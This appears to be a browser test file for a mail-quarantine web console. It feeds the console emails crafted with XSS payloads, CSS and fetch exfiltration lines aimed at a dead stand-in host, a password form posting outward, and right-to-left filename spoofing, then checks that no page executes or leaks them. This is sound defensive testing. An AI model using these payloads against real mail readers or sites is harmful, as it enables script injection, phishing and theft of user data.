/** The input of these pages is an attacker's mail. Whatever stands in it, a browser with scripts on is not moved by it. */
import { type Browser, chromium } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { has } from '../../scripts/peers.ts'
import { type Console, openConsole } from '../../src/console/console.ts'
import { GROUP, openWindow, PASSWORD, type Window } from './house.ts'

const ELSEWHERE = 'http://127.0.0.1:9'
const SCRIPT = `<script>document.title='taken';fetch('${ELSEWHERE}/s')</script>`
const IMAGE = `"><img src=${ELSEWHERE}/i onerror="alert(1)">`
const STYLE = `<style>@import url(${ELSEWHERE}/c);input[value^=a]{background:url(${ELSEWHERE}/a)}</style>`

const part = (type: string, body: string, more = '') => `--m\r\nContent-Type: ${type}\r\n${more}\r\n${body}\r\n`
const letter = (head: readonly string[], html: string, more = ''): Buffer =>
  Buffer.from(
    `${head.join('\r\n')}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n` +
      `${part('text/html; charset=utf-8', html)}${more}--m--\r\n`,
  )
const FROM = 'From: Els Claes <els.claes@school.example>'
const TO = 'To: ouder@ouder.example'

const OPEN_ALL = "document.querySelectorAll('details').forEach((one) => { one.open = true })"

const LETTERS: Readonly<Record<string, Buffer>> = {
  scripts: letter(
    [FROM, TO, `Subject: ${SCRIPT}`],
    `${SCRIPT}<a href="javascript:alert(1)">bank</a><p onclick=alert(1)>x`,
  ),
  'a picture that speaks': letter(
    [FROM, TO, `Subject: ${IMAGE}`],
    `<svg onload=alert(1)><script>alert(2)</script></svg>${IMAGE}`,
  ),
  'style that reads along': letter(
    [FROM, TO, `Subject: ${STYLE}`],
    `${STYLE}<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/f)">x</p>`,
  ),
  'frames, forms and a way out': letter(
    [FROM, TO, 'Subject: vorm'],
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/m"><base href="${ELSEWHERE}/"><iframe src="${ELSEWHERE}/q"></iframe>` +
      `<form action="${ELSEWHERE}/p"><input name=password autofocus></form><object data="${ELSEWHERE}/o"></object><link rel=stylesheet href="${ELSEWHERE}/l">`,
  ),
  'turned letters': letter(
    [
      `From: =?utf-8?B?${Buffer.from('\u202eessalC slE\u202c').toString('base64')}?= <els.claes@school.example>`,
      TO,
      `Subject: =?utf-8?B?${Buffer.from('rekening\u202efdp.exe').toString('base64')}?=`,
    ],
    '<p dir=rtl>\u202etxt</p>',
  ),
  'our own words': letter(
    [FROM, TO, 'Subject: Vrijgegeven. Het bericht is verstuurd.</h1><p class="message good" role="status">Vrijgegeven'],
    '</main><p class="message good" role="status">Vrijgegeven</p>',
  ),
  'a hostile name': letter(
    [`From: "${IMAGE.replaceAll('"', '')}" <els.claes@school.example>`, TO, 'Subject: naam', `X-${'<b>'.repeat(3)}: 1`],
    'x',
  ),
  'huge fields': letter([FROM, TO, `Subject: ${'W'.repeat(900)}`], 'W'.repeat(200_000)),
  'deep nesting': letter([FROM, TO, 'Subject: diep'], `${'<div><table><tr><td>'.repeat(3000)}x`),
  'a file with a name': letter(
    [FROM, TO, 'Subject: bestand'],
    'x',
    part(
      'text/plain',
      SCRIPT,
      `Content-Disposition: attachment; filename="<img src=${ELSEWHERE}/n onerror=alert(1)>.txt"\r\n`,
    ) +
      part(
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
        'Content-Disposition: attachment; filename=x.svg\r\n',
      ),
  ),
}

describe.skipIf(!has('chromium'))('hostile mail', () => {
  let browser: Browser
  let house: Window
  let opened: Console
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu'] })
    house = await openWindow()
    opened = await openConsole(house.parts)
  })
  afterAll(async () => {
    await browser?.close()
    await opened?.close()
    await house?.close()
  })

  /** A browser that is signed in; `told` is all that it did or said beside showing our pages. */
  const openBrowser = async () => {
    const { cookie } = await house.signIn(await house.account(`Griet${Math.random()}`, ['admin', 'privacy-officer']))
    const context = await browser.newContext({ viewport: { width: 320, height: 640 }, locale: 'nl-BE' })
    const [name = '', value = ''] = cookie.split('=')
    await context.addCookies([{ name, value, url: opened.url }])
    const page = await context.newPage()
    const told: string[] = []
    page.on('request', (asked) => {
      if (!asked.url().startsWith(opened.url)) told.push(`asked for ${asked.url()}`)
    })
    page.on('dialog', (dialog) => {
      told.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('response', (given) => {
      if (given.status() >= 400) told.push(`${given.status()} for ${new URL(given.url()).pathname}`)
    })
    page.on('console', (said) => told.push(`said ${said.text()}`))
    page.on('pageerror', (error) => told.push(`failed ${error}`))
    page.on('popup', () => told.push('opened a window'))
    return { context, page, told }
  }

  test.each(Object.entries(LETTERS))('%s: shown on every page, and harmless', async (_, raw) => {
    const id = await house.hold({ raw, hits: [PASSWORD, { ...GROUP, outcome: 'hold', wouldBe: 'hold' }] })
    const { path: remedy } = await house.stop({ raw })
    const { context, page, told } = await openBrowser()
    const look = async (where: string) => {
      const title = await page.title()
      expect(title, where).toContain('Mailsluis')
      expect(new URL(page.url()).origin, where).toBe(opened.url)
      expect(await page.locator('html').evaluate((html) => html.scrollWidth), where).toBeLessThanOrEqual(320)
      expect(
        await page.locator('p.message.good, iframe, object, svg, main style, main meta, main base').count(),
        where,
      ).toBe(0)
    }
    for (const where of [
      '/held',
      `/held/${id}`,
      `/held/${id}/bcc`,
      `/held/together?id=${id}`,
      `/mail/${id}`,
      await house.link(id),
      remedy,
    ]) {
      await page.goto(opened.url + where)
      await look(where)
    }
    await page.goto(`${opened.url}/held/${id}`)
    const form = page.locator(`form[action="/held/${id}/original"]`)
    await page.evaluate(OPEN_ALL)
    await form.locator('input:not([type=hidden]), textarea').first().fill('Twijfel over dit bericht')
    await form.locator('button').click()
    await page.waitForURL(/original/)
    await page.evaluate(OPEN_ALL)
    await look('the whole text')
    expect(told).toEqual([])
    await context.close()
  })
})
